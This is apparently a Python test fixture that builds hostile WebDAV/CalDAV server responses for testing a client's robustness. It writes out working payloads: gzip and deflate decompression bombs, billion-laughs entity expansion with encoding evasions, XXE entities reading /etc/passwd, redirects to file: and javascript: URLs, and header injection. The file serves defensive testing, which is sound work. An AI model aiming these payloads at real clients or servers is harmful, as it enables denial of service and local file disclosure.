"""Answers made to do harm, by name, as bytes on the wire."""

from __future__ import annotations

import gzip
import itertools
import zlib
from collections.abc import Callable

from tests.hostile.raw import Answers, Bytes, chunk, head

MB = 1_000_000
XML = b'<?xml version="1.0"?>'
OPEN, CLOSE = b'<multistatus xmlns="DAV:">', b"</multistatus>"


def answers(trap: str) -> Answers:
    """`trap` is the address of a server that nobody may ask anything."""
    return {**_sizes(), **_packed(), **_heads(trap), **_documents(trap)}


def _whole(made: Callable[[], bytes] | bytes, *lines: str, kind: str = "text/xml") -> Callable[[], Bytes]:
    """The large ones are made when they are asked for."""

    def say() -> Bytes:
        body = made if isinstance(made, bytes) else made()
        yield head("207 Multi-Status", f"Content-Length: {len(body)}", *lines, kind=kind)
        yield body

    return say


def _filler(size: int) -> Bytes:
    yield XML + OPEN
    yield from itertools.repeat(b" " * MB, size // MB)
    yield CLOSE


def _sizes() -> Answers:
    def whole() -> Bytes:
        yield head("207 Multi-Status", f"Content-Length: {500 * MB + len(XML + OPEN + CLOSE)}")
        yield from _filler(500 * MB)

    def chunked() -> Bytes:
        yield head("207 Multi-Status", "Transfer-Encoding: chunked")
        yield from map(chunk, _filler(500 * MB))
        yield b"0\r\n\r\n"

    def until_the_end() -> Bytes:
        yield head("207 Multi-Status", "Connection: close")
        yield from _filler(500 * MB)

    def lying(says: str) -> Callable[[], Bytes]:
        def say() -> Bytes:
            yield head("207 Multi-Status", f"Content-Length: {says}", "Connection: close")
            yield XML + OPEN + b" " * 1000 + CLOSE

        return say

    def chunks_of_no_size() -> Bytes:
        yield head("207 Multi-Status", "Transfer-Encoding: chunked")
        yield b"f" * 1000 + b"\r\n" + b"x" * 1000

    return {
        "500-mb": whole,
        "500-mb-in-chunks": chunked,
        "500-mb-without-length": until_the_end,
        "says-more": lying("999999999"),
        "says-less": lying("20"),
        "says-nonsense": lying("²"),
        "says-thousands-of-digits": lying("9" * 6000),
        "says-two": lying("20\r\nContent-Length: 21"),
        "says-a-negative": lying("-1"),
        "chunks-of-no-size": chunks_of_no_size,
    }


def _bomb(bits: int) -> bytes:
    """100 MB of blanks, packed; `bits` as zlib has them: 31 for gzip."""
    pack = zlib.compressobj(1, zlib.DEFLATED, bits)
    return b"".join([*map(pack.compress, itertools.islice(_filler(100 * MB), 101)), pack.flush()])


def _packed() -> Answers:
    return {
        "gzip-bomb": _whole(lambda: _bomb(31), "Content-Encoding: gzip"),
        "x-gzip-bomb": _whole(lambda: _bomb(31), "Content-Encoding: X-GZIP"),
        "deflate-bomb": _whole(lambda: _bomb(15), "Content-Encoding: deflate"),
        "gzip-gzip": _whole(lambda: gzip.compress(_bomb(31)), "Content-Encoding: gzip, gzip"),
        "gzip-gzip-in-two-lines": _whole(
            lambda: gzip.compress(_bomb(31)), "Content-Encoding: gzip", "Content-Encoding: gzip"
        ),
        "br": _whole(b"\x1b\xff\xff\xff" * 1000, "Content-Encoding: br"),
        "zstd": _whole(b"\x28\xb5\x2f\xfd" * 1000, "Content-Encoding: zstd"),
        "gzip-in-transfer": _whole(lambda: _bomb(31), "Transfer-Encoding: gzip, chunked"),
    }


def _heads(trap: str) -> Answers:
    def raw(*pieces: bytes) -> Callable[[], Bytes]:
        return lambda: iter(pieces)

    def endless(piece: bytes, first: bytes = b"") -> Callable[[], Bytes]:
        return lambda: itertools.chain([first], itertools.repeat(piece, 100_000))

    def status(line: str, *lines: str) -> Callable[[], Bytes]:
        return raw(head(line, "Content-Length: 0", *lines))

    return {
        "100,000-headers": endless(b"X-A: b\r\n", b"HTTP/1.1 207 Multi-Status\r\n"),
        "a-header-of-10-mb": raw(b"HTTP/1.1 207 Multi-Status\r\nX-A: ", b"b" * (10 * MB), b"\r\n\r\n"),
        "a-status-line-of-10-mb": raw(b"HTTP/1.1 207 ", b"b" * (10 * MB), b"\r\n\r\n"),
        "100,000-times-100": endless(b"HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n"),
        "no-http": raw(b"\x00\xff" * 5000),
        "status-0": status("000 Nothing"),
        "status-999": status("999 Much"),
        "status-of-letters": status("abc"),
        "redirect-to-itself": status("301 Moved", "Location: /redirect-to-itself/"),
        "redirect-to-no-address": status("302 Found", "Location: http://["),
        "redirect-to-a-file": status("302 Found", "Location: file:///etc/passwd"),
        "redirect-to-javascript": status("302 Found", "Location: javascript:alert(1)"),
        "redirect-with-a-password": status("302 Found", f"Location: {trap.replace('//', '//user:pass@')}"),
        "redirect-elsewhere": status("302 Found", "Location: https://caldav.example.org/"),
        "redirect-to-a-port-of-letters": status("302 Found", "Location: http://127.0.0.1:abc/"),
        "wait-for-digits": status("503 Busy", "Retry-After: " + "9" * 6000),
        "wait-for-nonsense": status("503 Busy", "Retry-After: ²"),
        "wait-for-ever": status("429 Slow", "Retry-After: inf"),
        "wait-until-never": status("429 Slow", "Retry-After: Fri, 31 Dec 99999 23:59:59 GMT"),
        "challenges": raw(
            head("401 No", "Content-Length: 0", *['WWW-Authenticate: Digest realm="' + "a" * 500 + '"'] * 20)
        ),
    }


def _documents(trap: str) -> Answers:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    laughing = f'<!DOCTYPE m [<!ENTITY l0 "ha">{laughs}]><multistatus xmlns="DAV:" a="&l9;">&l9;</multistatus>'
    said = '<?xml version="1.0"?>' + laughing
    outside = (
        f'<!DOCTYPE m [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "{trap}entity">'
        f'<!ENTITY % p SYSTEM "{trap}parameter"> %p;]><multistatus xmlns="DAV:">&f;&h;</multistatus>'
    )
    linked = f'<!DOCTYPE m SYSTEM "{trap}dtd"><multistatus xmlns="DAV:" xmlns:xi="http://www.w3.org/2001/XInclude">'
    many = b"<response><href>/x</href><propstat><prop/><status>HTTP/1.1 200 OK</status></propstat></response>"
    return {
        "laughs": _whole(said.encode()),
        "laughs-in-utf-16": _whole(said.encode("utf-16")),
        "laughs-in-utf-16-without-mark": _whole(said.encode("utf-16-be")),
        "laughs-in-utf-16-little-without-mark": _whole(said.encode("utf-16-le")),
        "laughs-in-utf-32": _whole(said.encode("utf-32-be")),
        "laughs-in-utf-7": _whole(
            b'<?xml version="1.0" encoding = "UTF-7"?>' + laughing.replace("<!", "+ADwAIQ-").encode()
        ),
        "laughs-in-ebcdic": _whole(said.replace("?>", ' encoding="cp037"?>', 1).encode("cp037")),
        "laughs-behind-a-control": _whole(said.replace("DOC", "DOC\x01").encode()),
        "laughs-behind-a-reference": _whole(said.replace("DOC", "D&#1;OC").encode()),
        "laughs-behind-a-comment": _whole(said.replace("<!DOC", "<!-- > --><?x ?><!DOC").encode()),
        "outside": _whole(outside.encode()),
        "outside-as-text": _whole(outside.encode(), kind="text/html"),
        "linked": _whole((linked + f'<xi:include href="{trap}xi"/></multistatus>').encode()),
        "10-million-elements": _whole(lambda: OPEN + b"<a/>" * (10 * MB) + CLOSE),
        "3-million-attributes": _whole(
            lambda: OPEN + (b"<a" + b"".join(b" a%d=''" % n for n in range(5000)) + b"/>") * 600 + CLOSE
        ),
        "3-million-attributes-with-spaces": _whole(
            lambda: OPEN + (b"<a z='>' " + b"".join(b" a%d  =  ''" % n for n in range(5000)) + b"/>") * 600 + CLOSE
        ),
        "100,000-responses": _whole(lambda: OPEN + many * 100_000 + CLOSE),
        "100,000-levels": _whole(lambda: OPEN + b"<a>" * 100_000 + b"</a>" * 100_000 + CLOSE),
        "an-attribute-of-40-mb": _whole(lambda: OPEN.replace(b">", b" a='" + b"b" * (40 * MB) + b"'>") + CLOSE),
        "40-mb-of-nothing": _whole(lambda: b"\x00" * (40 * MB)),
        "40-mb-of-no-xml": _whole(lambda: b"<" + b"\xff" * (40 * MB), kind="text/html"),
        "40-mb-of-text": _whole(lambda: b"\xe9" * (40 * MB), kind="text/plain"),
        "40-mb-and-an-emoji": _whole(lambda: OPEN + "\U0001f600".encode() + b"x" * (40 * MB) + CLOSE),
        "status-of-digits": _whole(
            OPEN + "<response><href>/x</href><status>HTTP/1.1 ² OK</status></response>".encode() + CLOSE
        ),
        "status-of-6,000-digits": _whole(
            OPEN + b"<response><href>/x</href><status>HTTP/1.1 " + b"9" * 6000 + b"</status></response>" + CLOSE
        ),
        "principal-of-no-address": _whole(_principal("http://[")),
        "principal-elsewhere": _whole(_principal(trap.replace("http://", "http://u:p@"))),
        "principal-in-lines": _whole(_principal("/a&#10;b&#13;&#10;Host: evil/")),
        "principal-that-is-javascript": _whole(_principal("javascript:alert(1)")),
        "principal-of-10-mb": _whole(lambda: _principal("/" + "a" * (10 * MB))),
    }  # fmt: skip


def _principal(href: str) -> bytes:
    inner = f"<current-user-principal><href>{href}</href></current-user-principal>"
    status = "<status>HTTP/1.1 200 OK</status>"
    found = f"<response><href>/</href><propstat><prop>{inner}</prop>{status}</propstat></response>"
    return OPEN + found.encode() + CLOSE
